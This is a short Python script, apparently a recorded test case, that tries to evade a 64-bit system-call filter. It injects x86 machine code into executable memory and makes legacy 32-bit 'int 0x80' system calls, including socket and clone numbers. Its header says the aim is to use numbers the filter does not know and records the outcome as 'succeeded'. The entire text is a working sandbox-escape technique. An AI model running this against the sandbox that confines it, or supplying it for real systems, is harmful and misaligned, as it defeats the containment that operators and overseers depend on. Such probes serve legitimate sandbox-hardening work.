#: about = "calls the kernel the 32-bit way, whose numbers a 64-bit filter does not know"
#: outcome = "succeeded"
#: stdout = ["tried"]
import ctypes, mmap, os
tried = 0
# mov eax, NUMBER; xor ebx..edx; int 0x80; ret
for number in (20, 24, 102, 120, 310, 359):
    tried += 1
    child = os.fork()
    if child == 0:
        code = b"\xb8" + number.to_bytes(4, "little") + b"\x53\x31\xdb\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
        area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        area.write(code)
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
        os._exit(9 if call() > 0 else 0)
    status = os.waitpid(child, 0)[1]
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 9:
        print("REACHED int 0x80", number)
print("tried", tried)
